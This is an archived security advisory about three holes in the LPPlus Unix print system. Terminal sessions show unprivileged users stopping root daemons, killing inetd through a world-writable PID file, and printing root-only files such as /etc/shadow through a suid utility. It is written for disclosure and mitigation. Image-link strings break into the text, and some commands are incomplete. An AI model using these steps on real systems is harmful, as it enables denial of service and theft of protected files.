Visit our newest sister site!
Hundreds of free aircraft flight manuals
Civilian • Historical • Military • Declassified • FREE!

TUCoPS :: Unix :: General :: lpplus-1.htm

LPPlus - Three holes



    LPPlus 3.3.0, 3.2.1 (only tested)


    Dixie  Flatline  found  following.   LPPlus  is Plus Technologies'
    print management  system for  unix.   It contains  several serious
    security  holes,  some  of  which  undermine  the integrity of the
    printing subsystem,  some of  which threaten  the security  of the
    system on which the product is installed.

    Hole #1:
    Of the 74  binaries that the  installer put on  Solaris system, 26
    were installed suid to root  and world-executable.  On linux  box,
    it was 26 out  of 64.  Several  of these should not  be suid-root,
    or should be group-executable only, and carefully restricted.

    For example, the following binaries are installed mode 4755 by theThe first three start the scheduler, LPD server and network status
    daemons, respectively.   The next  three stop  the  aforementioned
    services.  In the default  configuration, all six can be  executed
    by  any  unprivileged  user,  effectively  giving  any user on the
    system  the  ability  to  start  and  stopprinting services.  No
    checking  of  userid,  group  or  anything  else  is done prior to

        $ id
        uid=600(test) gid=300(users)
        $ ps -ef|grep dcc
            test 26357 26351  0 18:18:06 pts/0    0:00 grep dccroot 26262     1  0 17:41:50 ?        0:01 /opt/lpplus/bin/dccsched
            root 26272     1  0 17:42:03 ?        0:00 /opt/lpplus/bin/dcclpdserroot 26276     1  0 17:42:14 ?        0:00 /opt/lpplus/bin/dccbkst
        $ dccbkstshut
        $ dcclpdshut
        LPD048E Signal sent to dcclpdser to shut down.
        $ dccshut
        LPP054I LP Plus scheduler ordered to shutdown.
        $ ps -ef|grep dcc
            test 26253 26239  0 17:39:45 pts/0    0:00 grep dcc

    Hole #2:
    $LPHOME/system/lpdprocess is created mode 777.

    This file contains the process  ID of the dcclpdser process.   The
    combination  of  this  file's   permissions  and  the  fact   that
    dcclpdshut is executable by  any user allows an  unprivileged user
    to send  signal 2  (SIGINT) to  any process  on the  system.   All
    that's required is for an unprivileged user to replace the PID  in
    $LPHOME/system/lpdprocess  with  the  PID  of their target processand then run $LPHOME/bin/dcclpdshut.

        $ id
        uid=600(test) gid=300(users)
        $ ps -ef|grep inet
            test 26285 26279  0 17:42:42 pts/0    0:00 grep inet
            root 12276     1  0   Aug 22 ?        0:00 /usr/sbin/inetd -s
        $ cat > $LPHOME/system/lpdprocess
        $ dcclpdshut
        LPD048E Signal sent to dcclpdser to shut down.
        $ ps -ef|grep inet
            test 26291 26279  0 17:45:17 pts/0    0:00 grep inet

    Hole #3:
    $LPHOME/bin/dccscan is suid-root and can be executed by any  user.
    It may allow an unprivileged user to print files to which he  does
    not  have  read  access.   The  ramifications  are fairly obvious:
    although  an  unprivileged  user  cannot  read  /etc/shadow   (for
    example), using this utility, he may be able to print it out.   In
    testing, this worked even when  sending to printers to which  user
    was  not  given  any  access  in the LPPlus security configuration
    (in fact, test user had no  access to ANY printers, or ANY  LPPlus

        # id
        uid=0(root) gid=1(other)
        # ls -alt /root/test
        total 6
        drwx---   2 root     other        512 Sep  5 17:46 .
        -r---   1 root     other        365 Sep  5 17:46foo
        drwx---   3 root     other        512 Sep  5 17:46 ..
        # su - test
        Sun Microsystems Inc.   SunOS 5.6       Generic August 1997
        $ id
        uid=600(test) gid=300(users)
        $ ls -alt /root/test
        /root/test: Permissiondenied
        $ dccscan /root/test 30 5 "-dlp0"
        # now, go to the printer and wait for the files to come out, or watch them
        # being queued as root, if you have access to dccstat

    Some other potential holes:
    * if the archive module is installed, $LPHOME/bin/dccasweep can be
      executed by any user.   This may undermine the integrity  of the
      archiving facility.
    * if the web interface is  installed, it utilizes a very old  beta
      version of apache, and the installation requires that the server
      (and all of  its children, which  run as nobody  out-of-the-box)
      run as root.
    * on the linux system, $LPHOME was created mode 777.  Root's umask
      was set to 022. This didn't  seem to be the case on  the Solaris
      system,  although  the  reason  for  this  may  be the different
      version of LPPLUS  rather than the  different unixes (see  below
      for version info).At  this  time,  no  patches  or  updated  versions are available.
    However, most of  the utilities in  question either don't  need to
    be suid,  or can  be group-owned  by a  more restricted  group and
    mode 4750.

    The  vendor  was  notified   on  8/24/2000.   They  did   respond,
    confirming the existence ofthe holes.  However, a request for  an
    ETA on an updatedrelease or patches has thus far been ignored.

TUCoPS is optimized to look best inFirefox® on a widescreen monitor (1440x900 or better).
Site design & layout copyright © 1986-2015 AOH